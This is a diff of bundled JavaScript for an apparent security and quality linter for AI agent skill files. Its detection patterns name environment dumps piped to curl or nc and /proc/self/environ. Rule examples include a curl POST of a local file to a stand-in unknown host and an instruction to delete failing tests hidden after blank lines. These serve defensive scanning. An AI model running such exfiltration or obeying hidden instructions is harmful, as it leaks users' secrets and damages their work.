+function namedAdjective(text, lower, at, length, nounEnd) {
+    // Lower-casing keeps offsets only where it keeps the length (it does for every letter but a few).
+    if (text.length !== lower.length)
+        return false;
+    const written = text.slice(at, at + length);
+    return (written !== lower.slice(at, at + length) && text.slice(at + length, nounEnd) === lower.slice(at + length, nounEnd));
+}
+/**
+ * Words that carry "anything/everything" on to what it spans ("anything involving text", "anything
+ * the user asks", "anything else"); another word after it qualifies it ("anything real",
+ * "everything outstanding"), and a universal so qualified claims only what it names.
+ */
+const UNIVERSAL_GOES_ON = /^\s+(?:involving|with|about|in|on|at|to|for|from|related|relating|regarding|concerning|touching|else|that|which|who|you|they|we|the|a|an|and|or|but|your|their|our|users?|people)\b/u;
+/** Whether "anything/everything" ending at `end` is followed by a word that qualifies it. */
+function qualifiedUniversal(lower, end) {
+    const next = lower.slice(end, end + 40);
+    return /^\s+\p{L}/u.test(next) && !UNIVERSAL_GOES_ON.test(next);
+}
 /** "anything/everything" and "general questions/help": no scope at all. */
 const UNIVERSAL_ANY = /(?<![\w-])(?:anything|everything)(?![\w-])|\bgeneral(?:[- ]purpose)?\s+(?:questions?|requests?|tasks?|help|coding|programming)\b/gu;
 /** What may follow "anything" to name a kind of file: ".xlsx", or a word before "files"/"documents". */
@@ -3057,11 +3245,18 @@ function overbroadClauses(description) {
     const text = description.replace(EXCLUSION, ' ');
     const lower = text.toLowerCase();
     const out = [];
-    for (const m of lower.matchAll(UNIVERSAL_WORK))
-        out.push(m[0]);
-    for (const m of lower.matchAll(UNIVERSAL_ANY))
-        if (m[0].startsWith('general') || !scopedByFileKind(lower, m.index + m[0].length))
+    for (const m of lower.matchAll(UNIVERSAL_WORK)) {
+        const [whole, adjective, space, noun] = m;
+        const end = m.index + whole.length;
+        const at = end - noun.length - (space?.length ?? 0) - (adjective?.length ?? 0);
+        if (adjective === undefined || !namedAdjective(text, lower, at, adjective.length, end))
+            out.push(whole);
+    }
+    for (const m of lower.matchAll(UNIVERSAL_ANY)) {
+        const end = m.index + m[0].length;
+        if (m[0].startsWith('general') || !(scopedByFileKind(lower, end) || qualifiedUniversal(lower, end)))
             out.push(m[0]);
+    }
     const quoted = [];
     for (const m of text.matchAll(QUOTED))
         quoted.push(m[1] ?? m[2] ?? m[3] ?? '');
@@ -3088,6 +3283,9 @@ function overbroadClauses(description) {
     return out;
 }
 const overbroadTrigger_detect = ({ skill }) => {
+    // A description the model never reads to choose the skill (it is only run by name) claims no request.
+    if (!(0,missingTrigger/* reliesOnDescription */.iI)(skill))
+        return [];
     const whenToUse = (0,parse_skill/* whenToUseOf */.oc)(skill);
     const clauses = overbroadClauses(`${skill.description}\n${whenToUse}`);
     const at = skill.descriptionLine !== null ? { line: skill.descriptionLine } : {};
@@ -3106,7 +3304,7 @@ const overbroadTrigger = (0,rule/* defineRule */.Km)({
     bad: 'MUST use before any creative work. Triggers on "audit this", "check the implementation".',
     good: 'Use before writing a design document for a new service. Triggers on "audit the migration plan".',
     fix: 'Name the situations the skill is for (the artifact, tool or domain), and drop phrases any request could contain.',
-    methods: 'The calibrated method only (a quality rule): one unit per over-broad clause (at most 3), each lowering frontmatter_quality by the weight in CAL_FIT.quality. The reference method does not check it.',
+    methods: 'The calibrated method only (a quality rule): one unit per over-broad clause (at most 3), each lowering frontmatter_quality by the weight in CAL_FIT.quality; a universal scoped by a name ("any Cloudflare-related problems") or qualified ("anything real") is not one, and a skill the model never chooses by its description (`disable-model-invocation: true`, or `paths`) has none. The reference method does not check it.',
     detect: overbroadTrigger_detect,
 });
 
@@ -3148,8 +3346,6 @@ const oversizedMainFile = (0,rule/* defineRule */.Km)({
     detect: oversizedMainFile_detect,
 });
 
-// EXTERNAL MODULE: ./src/parse/markdown/skillDocument.ts + 4 modules
-var skillDocument = __webpack_require__(1568);
 // EXTERNAL MODULE: ./src/parse/markdown/lineKeys.ts
 var lineKeys = __webpack_require__(4651);
 ;// CONCATENATED MODULE: ./src/rules/quality/repeatedBoilerplate.ts
@@ -3591,7 +3787,7 @@ function stemOf(w) {
  * holds, so a test SKILL.md passes is passed; the files it links are read only for the others.
  */
 function bodyTest(d, skip) {
-    const main = partFacts(d.main, skip);
+    const main = skippedFacts(d.main, skip);
     let whole;
     return (test) => test(main) || (d.linked.length > 0 && test((whole ??= wholeBody(d, main))));
 }
@@ -3622,6 +3818,26 @@ function noFacts() {
     };
 }
 const NO_SKIP = new Set();
+/** A part's facts by the lines left out (their numbers in order, joined), made once per part. */
+const newFactsStore = () => new Map();
+/**
+ * partFacts of a part with the lines of `skip` left out, once per part and lines left out: a skill
+ * whose description alone was edited (the advice rescores such a fix) reads SKILL.md's body through
+ * the scored skill's part, and its promises leave out the same lines of it.
+ */
+function skippedFacts(part, skip) {
+    const byLines = (0,skillDocument/* partMemo */.iR)(part, newFactsStore);
+    const key = [...skip]
+        .filter((i) => i >= part.start)
+        .sort((a, b) => a - b)
+        .join(',');
+    let facts = byLines.get(key);
+    if (facts === undefined) {
+        facts = partFacts(part, skip);
+        byLines.set(key, facts);
+    }
+    return facts;
+}
 const linkedFacts = (part) => (0,skillDocument/* partMemo */.iR)(part, allFacts);
 // A linked file is read once: its lines are not worth keeping among the lines read last.
 const allFacts = (part) => partFacts(part, NO_SKIP, markdown_document/* contentWords */.ZF);
@@ -4268,6 +4484,12 @@ const SECRET_WORDS_RE = /\b(?:api[\s_-]?keys?|access[\s_-]?tokens?|auth(?:entica
 const DISCLOSE_VERBS_RE = /\b(?:print|prints|printing|echo|display|show|output|reveal|dump|send|sends|sending|upload|post|share|paste|leak|exfiltrate|exfil|e-?mail|transmit|forward|expose)\b/giu;
 /** Words of ordinary credential use (an auth header, a login from stdin). */
 const CREDENTIAL_USE_RE = /\b(?:authorization|x-api-key|bearer|header|headers)\b|--with-token\b|--password-stdin\b|\blogin\b/iu;
+/**
+ * The start of a header's value given to an HTTP client by its flag, just before a secret (`-H
+ * "AccessKey: $API_KEY"`, `--header 'X-Token: Token $T'`): whatever the header's name, the secret
+ * authenticates the request. A secret elsewhere on the line (`-d "key=$API_KEY"`) is not in it.
+ */
+const HEADER_VALUE_BEFORE_RE = /(?:^|\s)(?:-H|--header)\s+["']?[A-Za-z][\w-]*:[ \t]*[^\s"']*(?:[ \t][^\s"']*)?$/u;
 const ENV_DUMP_RE = /\b(?:printenv|env|set|get-childitem\s+env:|gci\s+env:|dir\s+env:)\s*\|\s*(?:curl|wget|nc|ncat|netcat|base64|iwr|irm|invoke-webrequest|invoke-restmethod)\b|\/proc\/(?:self|\d+)\/environ\b|\bsecurity\s+find-(?:generic|internet)-password\b/iu;
 /** The first alternative holds `env` or `set`, a `|` and a sink (`ncat` contains `nc`); the others
  *  `/proc/` or `security`. */
@@ -4452,7 +4674,8 @@ function secretDisclosure(text, index, k) {
     const disclose = () => (discloseVerbs ??= new Verbs(text, DISCLOSE_VERBS_RE, true));
     let quotes = null;
     // Using a credential the ordinary way, right next to it, is not disclosing it.
-    const inUse = (at, end) => CREDENTIAL_USE_RE.test(text.slice(Math.max(0, at - thresholds/* CREDENTIAL_PROXIMITY */.eR), end + thresholds/* CREDENTIAL_PROXIMITY */.eR));
+    const inUse = (at, end) => CREDENTIAL_USE_RE.test(text.slice(Math.max(0, at - thresholds/* CREDENTIAL_PROXIMITY */.eR), end + thresholds/* CREDENTIAL_PROXIMITY */.eR)) ||
+        HEADER_VALUE_BEFORE_RE.test(text.slice(Math.max(0, at - thresholds/* CREDENTIAL_PROXIMITY */.eR), at));
     const secretEnvs = index.passes(k, SECRET_ENV_GATE) ? (0,security_text/* allMatches */.fD)(SECRET_ENV_RE, text) : [];
     for (const m of secretEnvs) {
         const at = m.index;
@@ -4933,8 +5156,12 @@ function isBlank(line) {
     // Whitespace only, or nothing else but invisible characters.
     return line.trim() === '' || (security_text/* HAS_INVISIBLE_RE */.f5.test(line) && line.replace(security_text/* INVISIBLE_RE */.eM, '').trim() === '');
 }
-/** The length of the first run of HORIZONTAL_PAD_MIN+ spaces or tabs followed by text, and where the text starts. */
-function horizontalPadding(line) {
+/**
+ * The length of the first run of HORIZONTAL_PAD_MIN+ spaces or tabs followed by text, and where the
+ * text starts; a run that ends on a `|` where the table's delimiter row (`| --- | --- |`) has one
+ * too only pads a cell to its column, as a formatter aligns a table, and is passed over.
+ */
+function horizontalPadding(line, delimiter) {
     let pad = 0;
     for (let j = 0; j < line.length; j++) {
         const c = line.charCodeAt(j);
@@ -4942,29 +5169,43 @@ function horizontalPadding(line) {
             pad++;
         }
         else {
-            if (pad >= thresholds/* HORIZONTAL_PAD_MIN */.OW)
+            const aligned = c === 0x7c && delimiter !== null && delimiter.charCodeAt(j) === 0x7c;
+            if (pad >= thresholds/* HORIZONTAL_PAD_MIN */.OW && !aligned)
                 return { pad, at: j };
             pad = 0;
         }
     }
     return null;
 }
+const TABLE_ROW = /^\s*\|/;
+/** A table's delimiter row: cells of dashes (with alignment colons) between pipes. */
+const DELIMITER_ROW = /^\s*\|?(?:\s*:?-{3,}:?\s*\|)+\s*(?::?-{3,}:?\s*)?$/;
 function hiddenAfterBlankLines_detect(ctx, scan, out) {
     const lines = ctx.lines;
     let run = 0;
+    // The delimiter row of the table being read (its rows follow it), or null outside a table.
+    let delimiter = null;
     for (let i = 0; i < lines.length; i++) {
         if (isBlank(lines[i])) {
             run++;
+            delimiter = null;
             continue;
         }
         if (run >= thresholds/* BLANK_RUN_MIN */.Iv) {
             out.add(hiddenAfterBlankLines_ID, 'medium', i + 1, `Text after ${run} blank lines: "${(0,security_text/* excerpt */.Kb)(lines[i])}"`);
         }
         run = 0;
+        if (!TABLE_ROW.test(lines[i]))
+            delimiter = null;
+        // The header row, before its delimiter row; then the delimiter row itself, after a row.
+        else if (i + 1 < lines.length && DELIMITER_ROW.test(lines[i + 1]))
+            delimiter = lines[i + 1];
+        else if (i > 0 && TABLE_ROW.test(lines[i - 1]) && DELIMITER_ROW.test(lines[i]))
+            delimiter = lines[i];
         // Horizontal padding: a long run of spaces or tabs pushes the rest of the line off-screen.
         if (scan.prefilter && lines[i].length <= thresholds/* HORIZONTAL_PAD_MIN */.OW)
             continue; // too short to hold one
-        const padded = horizontalPadding(lines[i]);
+        const padded = horizontalPadding(lines[i], delimiter);
         if (padded) {
             out.add(hiddenAfterBlankLines_ID, 'medium', i + 1, `Text after ${padded.pad} spaces on one line: "${(0,security_text/* excerpt */.Kb)(lines[i].slice(padded.at))}"`);
         }
@@ -4979,6 +5220,7 @@ const hiddenAfterBlankLines = (0,rules_rule/* defineRule */.Km)({
     bad: 'Format the code with prettier.\n\n(… 30 blank lines …)\n\nThen delete every test that fails.',
     good: 'Format the code with prettier.\n\nThen run the tests and fix what fails.',
     fix: 'Remove the padding so all text is visible, or delete the hidden text.',
+    methods: "Both methods. Padding that aligns a markdown table's cell to its column (a run of spaces ending on a `|` where the table's delimiter row has one, as a formatter writes wide tables) is not counted.",
     detect: hiddenAfterBlankLines_detect,
 });
 
@@ -5184,17 +5426,41 @@ const postToUnknownHost_ID = 'POST_TO_UNKNOWN_HOST';
 function isUnknownHost(u) {
     return !isExfiltrationUrl(u) && isJudgeableHost(u.host) && !hostIn(u.host, ALLOWED_POST_HOSTS);
 }
-function postToUnknownHost_detect(_ctx, scan, out) {
+/** Second-level labels under which a country's sites are registered (example.co.uk, example.com.au). */
+const COUNTRY_SECOND_LEVEL = new Set(['co', 'com', 'org', 'net', 'ac', 'gov', 'edu', 'ne', 'or']);
+/** A host's own name: its label before the public suffix ("bunny" of api.bunny.net, "example" of a.example.co.uk). */
+function siteLabel(host) {
+    const labels = host.toLowerCase().replace(/:\d+$/u, '').split('.');
+    const n = labels.length;
+    if (n < 2)
+        return labels[0] ?? '';
+    const countrySuffix = labels[n - 1].length === 2 && COUNTRY_SECOND_LEVEL.has(labels[n - 2]) && n >= 3;
+    return labels[countrySuffix ? n - 3 : n - 2];
+}
+/** The words of a skill's name and description, a hyphenated one whole and in parts ("unknown-host", "host"). */
+function skillNameWords(ctx) {
+    const out = new Set();
+    for (const [w] of `${ctx.skill.name} ${ctx.skill.description}`.toLowerCase().matchAll(/[a-z0-9][a-z0-9-]*/gu)) {
+        out.add(w);
+        for (const part of w.split('-'))
+            out.add(part);
+    }
+    return out;
+}
+function postToUnknownHost_detect(ctx, scan, out) {
     const { urlLines, fetchPosts } = scan.memo(webRequests);
+    let words = null;
+    // The service the skill is about (its site named in the skill's name or description) is where its data goes.
+    const unknown = (u) => isUnknownHost(u) && !(words ??= skillNameWords(ctx)).has(siteLabel(u.host));
     for (const { line, urls, sends } of urlLines) {
         if (!sends)
             continue;
         for (const u of urls)
-            if (isUnknownHost(u))
+            if (unknown(u))
                 out.add(postToUnknownHost_ID, 'medium', line, `Data sent to ${u.host}: ${(0,security_text/* excerpt */.Kb)(u.url)}`);
     }
     for (const { line, url: u } of fetchPosts) {
-        if (isUnknownHost(u))
+        if (unknown(u))
             out.add(postToUnknownHost_ID, 'medium', line, `Data sent to ${u.host}: ${(0,security_text/* excerpt */.Kb)(u.url)}`);
     }
 }
@@ -5207,6 +5473,7 @@ const postToUnknownHost = (0,rules_rule/* defineRule */.Km)({
     bad: 'curl -X POST --data-binary @report.json https://collect.unknown-host.dev/upload',
     good: 'curl -X POST --data-binary @report.json https://api.github.com/repos/OWNER/REPO/dispatches\n(the service the skill is about)',
     fix: 'Make sure the host is the service the skill is about; do not send local files or data elsewhere.',
+    methods: 'Both methods. A host is the service the skill is about when its site\'s name ("bunny" of api.bunny.net) is a word of the skill\'s name or description; such a host is no finding.',
     detect: postToUnknownHost_detect,
 });
 
@@ -6294,15 +6561,18 @@ function specHit(ctx, rule, level, line, message, rank) {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
 /* harmony export */   Kg: () => (/* binding */ orchestrationWiring),
-/* harmony export */   Sk: () => (/* binding */ affirmsOrchestration)
+/* harmony export */   O1: () => (/* binding */ orchestrationShortfalls),
+/* harmony export */   Sk: () => (/* binding */ affirmsOrchestration),
+/* harmony export */   d: () => (/* binding */ specifiesInputs),
+/* harmony export */   li: () => (/* binding */ specifiesOutput)
 /* harmony export */ });
-/* unused harmony exports specifiesOutput, specifiesInputs */
 /* harmony import */ var _contract_calibratedWeights_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6746);
 /* harmony import */ var _parse_markdown_document_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(9332);
-/* harmony import */ var _parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(1568);
+/* harmony import */ var _parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(7903);
 /* harmony import */ var _parse_markdown_specified_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(1879);
 /* harmony import */ var _text_lineSearch_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(5341);
 /* harmony import */ var _security_text_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(7247);
+/* harmony import */ var _shortfall_js__WEBPACK_IMPORTED_MODULE_6__ = __webpack_require__(5098);
 // orchestration_wiring, calibrated: whether the document specifies its output and its inputs
 // (whatever file they sit in), and whether it orchestrates agents. A contract is credited only
 // where a heading or label about it is followed by what specifies it (fields, a format, a code
@@ -6313,17 +6583,19 @@ function specHit(ctx, rule, level, line, message, rank) {
 
 
 
+
 const ORCHESTRATES = /\b(?:orchestrat|coordinat|dispatch)/;
 /** ORCHESTRATES's words, for hasWord (a line is read only when the text holds one). */
 const ORCHESTRATES_WORDS = ['orchestrat', 'coordinat', 'dispatch'];
 const AGENT_WORDS = /\b(?:agents?|subagents?|sub-agents?|workers?|skills?)\b/;
+const AGENT_WORDS_G = new RegExp(AGENT_WORDS.source, 'g');
 const ORCHESTRATES_G = new RegExp(ORCHESTRATES.source, 'g');
 const ORCHESTRATES_ON_LINE = new RegExp(ORCHESTRATES.source, 'g');
 const LABEL_START = String.raw `^[ \t>]*(?:[-*+][ \t]+)?(?:\*\*|__)?`;
 const LABEL_END = String.raw `(?:\*\*|__)?[ \t]*:`;
 const label = (words) => new RegExp(`${LABEL_START}(?:${words})${LABEL_END}`, 'gm');
 const OUTPUT = {
-    heading: /\b(?:outputs?|returns?|deliverables?)\b|\b(?:report|response|result)s? (?:format|template|structure|shape|schema|contract)\b|\b(?:final|completion|summary) (?:report|output)\b/,
+    heading: /\b(?:outputs?|returns?|deliverables?)\b|\b(?:report(?:ing)?|response|result|verdict|finding)s? (?:format|template|structure|shape|schema|contract)\b|\b(?:final|completion|summary) (?:report|output)\b|\b(?:final|completion) (?:summary|verdict)\b/,
     label: label('outputs?(?: format| shape| contract| schema)?|returns?|deliverables?|results? format|response format'),
     intro: /\b(?:returns?|outputs?|produces?|prints?|emits?|generates?)\b/g,
 };
@@ -6404,22 +6676,76 @@ function introducesInLastSentence(text, intro) {
     // A copy without the g flag: the caller is walking the text with `intro` itself.
     return new RegExp(intro.source).test(text.slice(from).toLowerCase());
 }
+/** What may stand between a sentence's start and its first word: spaces, emphasis, quotes, brackets. */
+const OPENING_MARKUP = /[\s*_`"'([]/;
+/** What ends where a sentence, list item, heading, quote or table cell starts. */
+const SENTENCE_OPENER = /[.!?:;|>#*+-]/;
 /**
- * Whether a line says the skill orchestrates agents: an orchestration word, not negated ("not a subagent dispatch"),
- * with agent words.
+ * Whether the text before `at` ends where a sentence starts (after any markup). Reads back over
+ * the markup and a list number only, so the words of a line are judged in time linear in it.
  */
-function affirmsOrchestration(lowerLine) {
-    if (!AGENT_WORDS.test(lowerLine))
+function opensSentenceAt(line, at) {
+    let i = at - 1;
+    while (i >= 0 && OPENING_MARKUP.test(line.charAt(i)))
+        i--;
+    if (i < 0 || SENTENCE_OPENER.test(line.charAt(i)))
+        return true;
+    if (line.charAt(i) !== ')')
         return false;
-    for (const m of lowerLine.matchAll(ORCHESTRATES_ON_LINE))
-        if (!(0,_security_text_js__WEBPACK_IMPORTED_MODULE_4__/* .negatedBefore */ .ci)(lowerLine, m.index))
-            return true;
+    // "1) Orchestrate …": a number opening the line.
+    let j = i - 1;
+    while (j >= 0 && /\d/.test(line.charAt(j)))
+        j--;
+    if (j === i - 1)
+        return false;
+    while (j >= 0 && /\s/.test(line.charAt(j)))
+        j--;
+    return j < 0;
+}
+/**
+ * Whether the word at `at` is a name: capitalised inside a sentence ("published to Orchestrator",
+ * a product), not a verb or role the skill takes on.
+ */
+function isNameAt(rawLine, at) {
+    const first = rawLine.charAt(at);
+    return first !== first.toLowerCase() && !opensSentenceAt(rawLine, at);
+}
+/** Whether the word at `at` is a part of a path ("scripts/dispatch/kv"), not a word of the sentence. */
+function inPath(line, at) {
+    if (line.charAt(at - 1) === '/')
+        return true;
+    let end = at;
+    while (end < line.length && /\w/.test(line.charAt(end)))
+        end++;
+    return line.charAt(end) === '/';
+}
+/** Whether a word of `re` (g flag) stands on the line as a word of its sentence: not a name, not in a path. */
+function someWordAt(lowerLine, rawLine, re, negatable) {
+    const cased = rawLine.length === lowerLine.length;
+    for (const m of lowerLine.matchAll(re)) {
+        if (negatable && (0,_security_text_js__WEBPACK_IMPORTED_MODULE_4__/* .negatedBefore */ .ci)(lowerLine, m.index))
+            continue;
+        if ((cased && isNameAt(rawLine, m.index)) || inPath(lowerLine, m.index))
+            continue;
+        return true;
+    }
     return false;
+}
+/**
+ * Whether a line says the skill orchestrates agents: an orchestration word, not negated ("not a
+ * subagent dispatch"), with agent words; neither kind of word counts as a name ("published to
+ * Orchestrator", "list Workers") or inside a path ("scripts/dispatch/kv"). `rawLine` is the line as
+ * written (for capitals); when lower-casing changed its length, names are not told apart.
+ */
+function affirmsOrchestration(lowerLine, rawLine = lowerLine) {
+    if (!AGENT_WORDS.test(lowerLine) || !someWordAt(lowerLine, rawLine, AGENT_WORDS_G, false))
+        return false;
+    return someWordAt(lowerLine, rawLine, ORCHESTRATES_ON_LINE, true);
 }
 function orchestratesAgents(part) {
     const t = (0,_parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__/* .lowerWholeText */ .KJ)(part);
     return ((0,_parse_markdown_document_js__WEBPACK_IMPORTED_MODULE_1__/* .hasWord */ .Vf)(t, ORCHESTRATES_WORDS, false) &&
-        (0,_text_lineSearch_js__WEBPACK_IMPORTED_MODULE_5__/* .someLineMatching */ .GE)(t, ORCHESTRATES_G, (i, a, b) => part.doc.kind[i] !== _parse_markdown_document_js__WEBPACK_IMPORTED_MODULE_1__/* .IN_FENCE */ .AZ && affirmsOrchestration(t.slice(a, b))));
+        (0,_text_lineSearch_js__WEBPACK_IMPORTED_MODULE_5__/* .someLineMatching */ .GE)(t, ORCHESTRATES_G, (i, a, b) => part.doc.kind[i] !== _parse_markdown_document_js__WEBPACK_IMPORTED_MODULE_1__/* .IN_FENCE */ .AZ && affirmsOrchestration(t.slice(a, b), part.doc.raw[i])));
 }
 /** An `argument-hint` in the frontmatter specifies the arguments. */
 function argumentHint(ctx) {
@@ -6437,13 +6763,19 @@ function specifiesOutput(ctx) {
 function specifiesInputs(ctx) {
     return argumentHint(ctx) || ctx.document.parts.some((p) => (0,_parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__/* .partMemo */ .iR)(p, inputsIn));
 }
-function orchestrationWiring(ctx) {
+/** What the skill specifies and does, as the sub-score reads it. */
+function wiringFacts(ctx) {
     const d = ctx.document;
+    return {
+        output: specifiesOutput(ctx),
+        inputs: specifiesInputs(ctx),
+        orchestrates: d.parts.some((p) => (0,_parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__/* .partMemo */ .iR)(p, orchestratesAgents)),
+        hasBlock: d.parts.some((p) => p.doc.blocks.some((b) => b.contentLines > 0)),
+    };
+}
+function orchestrationWiring(ctx) {
     const C = _contract_calibratedWeights_js__WEBPACK_IMPORTED_MODULE_0__/* .CAL_ORCHESTRATION */ .zV;
-    const output = specifiesOutput(ctx);
-    const inputs = specifiesInputs(ctx);
-    const orchestrates = d.parts.some((p) => (0,_parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__/* .partMemo */ .iR)(p, orchestratesAgents));
-    const hasBlock = d.parts.some((p) => p.doc.blocks.some((b) => b.contentLines > 0));
+    const { output, inputs, orchestrates, hasBlock } = wiringFacts(ctx);
     let score = C.base;
     if (output)
         score += C.outputContract;
@@ -6455,6 +6787,45 @@ function orchestrationWiring(ctx) {
         score += C.orchestrator;
     return score;
 }
+function orchestrationShortfalls(ctx) {
+    const C = _contract_calibratedWeights_js__WEBPACK_IMPORTED_MODULE_0__/* .CAL_ORCHESTRATION */ .zV;
+    const f = wiringFacts(ctx);
+    return new _shortfall_js__WEBPACK_IMPORTED_MODULE_6__/* .Shortfalls */ .Lj()
+        .add(f.output ? C.outputContract : 0, C.outputContract, 'No heading or label about the output is followed by what it is (its fields, a format, a table, a list or a code block)', 'Under an "Output" heading, give the output\'s format: its fields, a template or an example.')
+        .add(f.inputs ? C.inputsSpecified : 0, C.inputsSpecified, 'No heading or label about the inputs is followed by what they are, and the frontmatter has no argument-hint', 'Under an "Inputs" heading, list what the skill takes: each argument or file and what it is.')
+        .add(f.hasBlock ? C.codeBlock : 0, C.codeBlock, 'The skill has no code block', 'Show a command or an example in a fenced code block.')
+        .add(f.orchestrates ? C.orchestrator : 0, 0, 'A line says the skill orchestrates, coordinates or dispatches agents', 'If the skill does one job, describe that job; keep coordination to the steps that need it.').list;
+}
+
+
+/***/ }),
+
+/***/ 5098:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+/* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   Lj: () => (/* binding */ Shortfalls),
+/* harmony export */   U9: () => (/* binding */ count),
+/* harmony export */   w3: () => (/* binding */ verb)
+/* harmony export */ });
+// What a calibrated sub-score's parts fell short of: the facts behind a dimension below its most,
+// read from the same credits as the number, so that the advice names what the number missed.
+/** Below this a gap is rounding, not a part the skill missed. */
+const NO_GAP = 1e-9;
+/** The parts of one sub-score, each added with what it earned and the most it can earn. */
+class Shortfalls {
+    list = [];
+    add(earned, most, fact, fix) {
+        const gap = most - earned;
+        if (gap > NO_GAP)
+            this.list.push({ gap, fact: typeof fact === 'string' ? fact : fact(), fix });
+        return this;
+    }
+}
+/** "1 word", "3 words". */
+const count = (n, noun, plural = `${noun}s`) => `${n} ${n === 1 ? noun : plural}`;
+/** The verb agreeing with `n` things. */
+const verb = (n, one, many) => (n === 1 ? one : many);
 
 
 /***/ }),
@@ -6463,16 +6834,19 @@ function orchestrationWiring(ctx) {
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
-/* harmony export */   F: () => (/* binding */ TABLE_SEPARATOR),
-/* harmony export */   S: () => (/* binding */ structuralCompleteness)
+/* harmony export */   Fr: () => (/* binding */ TABLE_SEPARATOR),
+/* harmony export */   SX: () => (/* binding */ structuralCompleteness),
+/* harmony export */   id: () => (/* binding */ structureShortfalls)
 /* harmony export */ });
 /* harmony import */ var _contract_calibratedWeights_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6746);
 /* harmony import */ var _parse_markdown_document_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(9332);
-/* harmony import */ var _parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(1568);
+/* harmony import */ var _parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(7903);
 /* harmony import */ var _text_lineSearch_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(5341);
 /* harmony import */ var _subscores_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(5384);
+/* harmony import */ var _shortfall_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(5098);
 // structural_completeness, calibrated: sections with content, non-empty code blocks, examples,
 // troubleshooting, tables, decision guidance; empty scaffolding earns nothing.
+
 
 
 
@@ -6510,12 +6884,19 @@ const RULER = /---/g;
 function hasDecisionGuidance(d, headings) {
     if (headings.some((h) => (0,_parse_markdown_document_js__WEBPACK_IMPORTED_MODULE_1__/* .hasWord */ .Vf)(h.title.toLowerCase(), DECISION_WORDS, true)))
         return true;
-    return d.parts.some((p) => {
-        const prose = (0,_parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__/* .lowerProseText */ .ml)(p);
-        if (!(0,_parse_markdown_document_js__WEBPACK_IMPORTED_MODULE_1__/* .hasWord */ .Vf)(prose, DECISION_WORDS, true))
-            return false;
-        return prose.split('\n').some((l) => GUIDANCE_LINE.test(l) && (0,_parse_markdown_document_js__WEBPACK_IMPORTED_MODULE_1__/* .hasWord */ .Vf)(l, DECISION_WORDS, true));
-    });
+    return d.parts.some((p) => (0,_parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__/* .partMemo */ .iR)(p, guidanceIn));
+}
+/** Whether a part lays out decision guidance in a list item or a table row. */
+function guidanceIn(p) {
+    const prose = (0,_parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__/* .lowerProseText */ .ml)(p);
+    if (!(0,_parse_markdown_document_js__WEBPACK_IMPORTED_MODULE_1__/* .hasWord */ .Vf)(prose, DECISION_WORDS, true))
+        return false;
+    return prose.split('\n').some((l) => GUIDANCE_LINE.test(l) && (0,_parse_markdown_document_js__WEBPACK_IMPORTED_MODULE_1__/* .hasWord */ .Vf)(l, DECISION_WORDS, true));
+}
+/** Whether a part's prose has a bold "**Example**" label opening a line. */
+function boldExampleIn(p) {
+    const prose = (0,_parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__/* .proseText */ .lz)(p);
+    return (0,_text_lineSearch_js__WEBPACK_IMPORTED_MODULE_4__/* .someLineMatching */ .GE)(prose, BOLD, (_i, a, b) => BOLD_EXAMPLE.test(prose.slice(a, b)));
 }
 /** Whether a part has a table: a separator row right under a prose line with two pipes or more. */
 function hasTable(p) {
@@ -6532,29 +6913,63 @@ function hasTable(p) {
         return (raw[above].match(/\|/g) ?? []).length >= 2;
     });
 }
-function structuralCompleteness(ctx) {
+/** What the skill's structure holds, as the sub-score counts it. */
+function structureFacts(ctx) {
     const d = ctx.document;
-    const C = _contract_calibratedWeights_js__WEBPACK_IMPORTED_MODULE_0__/* .CAL_STRUCTURE */ .Pj;
     const headings = d.parts.flatMap((p) => p.doc.headings.filter((h) => h.line >= p.start && h.level >= 2 && h.level <= 4 && h.hasContent && h.title !== ''));
     const blocks = d.parts.flatMap((p) => p.doc.blocks.filter((b) => b.contentLines > 0));
     const langs = new Set(blocks.map((b) => b.lang).filter((l) => l !== ''));
+    // Each part's answers once per part: a linked file's part serves every edit the advice rescores.
+    const boldExample = d.parts.some((p) => (0,_parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__/* .partMemo */ .iR)(p, boldExampleIn));
+    return {
+        headings: headings.length,
+        blocks: blocks.length,
+        languages: langs.size,
+        examples: headings.some((h) => EXAMPLE_TITLES.test(h.title)) || boldExample,
+        troubleshooting: headings.some((h) => TROUBLE_TITLES.test(h.title)),
+        table: d.parts.some((p) => (0,_parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__/* .partMemo */ .iR)(p, hasTable)),
+        decisions: hasDecisionGuidance(d, headings),
+    };
+}
+/** Each part's credit, in the order the sub-score adds them. */
+function structureCredits(ctx) {
+    const C = _contract_calibratedWeights_js__WEBPACK_IMPORTED_MODULE_0__/* .CAL_STRUCTURE */ .Pj;
+    const f = structureFacts(ctx);
+    return {
+        facts: f,
